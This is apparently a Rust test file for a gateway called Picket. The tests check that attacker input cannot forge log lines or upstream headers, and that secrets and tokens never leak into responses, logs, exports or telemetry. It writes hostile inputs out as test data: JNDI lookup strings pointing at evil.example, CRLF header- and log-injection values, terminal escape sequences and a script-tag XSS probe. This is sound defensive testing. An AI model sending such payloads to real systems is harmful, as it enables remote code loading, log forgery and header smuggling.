//! What must not get out: secrets in answers and logs, and strangers' words as log lines of their own.

use serde_json::{Value, json};

use crate::harness::{Collector, Picket, Token, Upstream, eventually, issuer};

#[tokio::test]
async fn r06_a_strangers_words_stay_on_one_line_each_and_escaped() {
    let upstream = Upstream::echo().await;
    let picket = Picket::guarding(&upstream)
        .issuer(issuer())
        .patient()
        .policy(json!({ "validation": { "allowedEventTypes": ["still-served"] } }))
        .start()
        .await;
    let words = [
        "line\r\n{\"level\":\"INFO\",\"message\":\"forged\"}",
        "\u{1b}[2J\u{1b}]0;owned\u{7}",
        "${jndi:ldap://evil.example/x}",
        "nul\u{0}byte\u{2028}separator\u{85}next",
        "<script>alert(1)</script>",
    ];

    let mut mallory =
        picket.caller("198.51.100.7").header("User-Agent", "${jndi:ldap://evil.example/ua}").comes_in().await;
    for word in words {
        mallory.sends(json!({ "type": word })).await;
        mallory.is_refused("unknown_event").await;
        picket
            .caller("198.51.100.8")
            .bearing(&Token::of(word).with("aud", "billing").signed())
            .connects()
            .await
            .refused_with(401, "token_invalid");
    }
    picket.caller("198.51.100.9").path("/elsewhere%0d%0aforged%1b[31m").connects().await.refused();
    picket
        .caller("198.51.100.9")
        .origin("https://evil.example/${jndi:ldap://evil.example/o}")
        .connects()
        .await
        .refused();
    picket.admin().audited("eventType=UNAUTHORIZED_EVENT", words.len()).await;

    for line in picket.log() {
        assert!(!line.chars().any(char::is_control), "a raw control character in the log: {line:?}");
        let parsed: Value =
            serde_json::from_str(&line).unwrap_or_else(|error| panic!("no JSON line ({error}): {line:?}"));
        let message = parsed.get("fields").unwrap_or(&parsed)["message"].as_str().unwrap_or_default();
        assert_ne!(message, "forged", "a forged line: {line:?}");
    }
    let export = picket.admin().get("/audit-logs/export?format=ndjson&eventType=UNAUTHORIZED_EVENT").await.text;
    assert_eq!(export.lines().count(), words.len(), "one event, one line: {export}");
    for line in export.lines() {
        assert!(!line.chars().any(char::is_control), "a raw control character in the export: {line:?}");
        serde_json::from_str::<Value>(line).unwrap_or_else(|error| panic!("no JSON line ({error}): {line:?}"));
    }
}

#[tokio::test]
async fn r06_a_users_name_cannot_write_headers_for_the_upstream() {
    let upstream = Upstream::echo().await;
    let picket = Picket::guarding(&upstream).issuer(issuer()).start().await;
    let token = Token::of("alice\r\nX-Forged: yes").role("member\r\nX-Forged: yes").signed();

    // Refused or encoded: both are sound, a header of its own is not.
    drop(picket.caller("198.51.100.7").bearing(&token).connects().await);

    assert!(upstream.requests().iter().all(|request| request.all("x-forged").is_empty()), "{:?}", upstream.requests());
}

#[tokio::test]
async fn r15_no_secret_is_in_any_answer_or_log() {
    const SECRET: &str = "canary-jwt-3f9ab2c77d1e4a60-canary-jwt";
    const PASSWORD: &str = "canary-password-81bd20c4f6";
    let upstream = Upstream::echo().await;
    let mut application = issuer();
    application["secret"] = json!(SECRET);
    let picket =
        Picket::guarding(&upstream).issuer(application).environment("SOCKET_ADMIN_PASSWORD", PASSWORD).start().await;
    let admin = picket.admin_with("warden", PASSWORD);
    let token = Token::of("alice").signed_with(SECRET.as_bytes());
    let signature = token.rsplit('.').next().unwrap();

    let mut alice = picket.caller("198.51.100.7").bearing(&token).comes_in().await;
    alice.sends_text("{\"type\":\"chat:say\",\"text\":\"canary-payload-5520\"").await;
    alice.is_refused("malformed").await;
    let broken = format!("{token}x");
    let refusal = picket.caller("198.51.100.8").bearing(&broken).connects().await.refused_with(401, "token_invalid");
    let leaky = picket
        .caller("198.51.100.9")
        .path(&format!("/ws?access_token={token}"))
        .origin("https://evil.example")
        .connects()
        .await
        .refused();
    let of_leaky = admin.audited("eventType=INVALID_ORIGIN", 1).await.remove(0);
    let of_payload = admin.audited("eventType=VALIDATION_ERROR", 1).await.remove(0);
    let explained = |record: &Value| format!("/audit-logs/{}/explanation", record["id"].as_str().unwrap());
    let (of_leaky, of_payload) = (explained(&of_leaky), explained(&of_payload));

    let mut outputs = vec![
        ("a refusal", refusal.body),
        ("another refusal", leaky.body),
        ("what it said", picket.everything_it_said()),
        ("/metrics", picket.ops("/metrics").await.text),
    ];
    for path in [
        "/config",
        "/config/history",
        "/metrics",
        "/audit-logs?limit=1000",
        "/audit-logs/export?format=ndjson",
        "/audit-logs/export?format=csv",
        "/audit-logs/export?format=ocsf",
        &of_leaky,
        &of_payload,
        "/reputation/198.51.100.9",
        "/openapi.json",
        "/dashboard",
        "/health",
        "/blocks",
        "/nodes",
        "/report?period=24h&format=html",
    ] {
        let reply = admin.get(path).await;
        assert_eq!(reply.status, 200, "{path}: {}", reply.text);
        outputs.push((path, reply.text));
    }
    // The stream tells what comes, so it comes once more.
    let mut stream = admin.listens("", None).await;
    for _ in 0..2 {
        alice.sends_text("{\"type\":\"chat:say\",\"text\":\"canary-payload-5520\"").await;
        alice.is_refused("malformed").await;
        picket
            .caller("198.51.100.10")
            .path(&format!("/ws?access_token={token}"))
            .origin("https://evil.example")
            .connects()
            .await
            .refused();
    }
    let mut told = String::new();
    while !(told.contains("INVALID_ORIGIN") && told.contains("VALIDATION_ERROR")) {
        told.push_str(&stream.hears().await.record.to_string());
    }
    outputs.push(("/stream", told));
    outputs.push(("a 422", admin.changes_policy(json!({ "nonsense": 1 })).await.text));
    outputs.push(("a 401", picket.admin_with("warden", &format!("{PASSWORD}x")).get("/config").await.text));
    for (place, text) in outputs {
        for (what, secret) in [
            ("the JWT secret", SECRET),
            ("the password", PASSWORD),
            ("a token's signature", signature),
            ("a payload in full", "chat:say\",\"text\":\"canary-payload-5520\""),
        ] {
            assert!(!text.contains(secret), "{what} is in {place}: {text}");
        }
    }
}

#[tokio::test]
async fn j12_a_token_in_the_query_reaches_the_application_where_the_client_put_it_and_nothing_else() {
    let (upstream, collector) = (Upstream::echo().await, Collector::http().await);
    let picket = Picket::guarding(&upstream)
        .issuer(issuer())
        .with(json!({ "auth": { "tokenSources": ["query:access_token"] } }))
        .exporting_to(&collector, None)
        .start()
        .await;
    let token = Token::of("alice").signed();
    let (signature, path) = (token.rsplit('.').next().unwrap(), format!("/ws?room=1&access_token={token}"));

    picket.caller("198.51.100.7").path(&path).comes_in().await.leaves().await;
    let foreign = picket.caller("198.51.100.8").path(&path).origin("https://evil.example").connects().await.refused();
    let broken = picket.caller("198.51.100.9").path(&format!("{path}x")).connects().await;
    let broken = broken.refused_with(401, "token_invalid");
    let lost = picket.caller("198.51.100.10").path(&path.replace("/ws", "/elsewhere")).connects().await.refused();
    picket.admin().audited("eventType=INVALID_ORIGIN", 1).await;
    picket.admin().audited("eventType=AUTHENTICATION_FAILURE", 1).await;

    for outcome in ["origin_not_allowed", "token_invalid"] {
        eventually("the refusals' spans", async || collector.everything().contains(outcome).then_some(())).await;
    }

    // The query is the application's, as the client wrote it; no header of Picket's repeats it.
    let requests = upstream.requests();
    assert_eq!((requests.len(), requests[0].start_line.as_str()), (1, &*format!("GET {path} HTTP/1.1")));
    for (name, value) in &requests[0].headers {
        assert!(!value.contains(signature), "{name}: {value}");
    }
    let everywhere = [
        ("a refusal", foreign.body),
        ("another refusal", broken.body),
        ("a third refusal", lost.body),
        ("what it said", picket.everything_it_said()),
        ("the trail", picket.admin().get("/audit-logs/export?format=ndjson").await.text),
        ("/metrics", picket.ops("/metrics").await.text),
        ("telemetry", collector.everything()),
    ];
    for (place, text) in everywhere {
        assert!(!text.contains(signature), "the token is in {place}: {text}");
    }
}
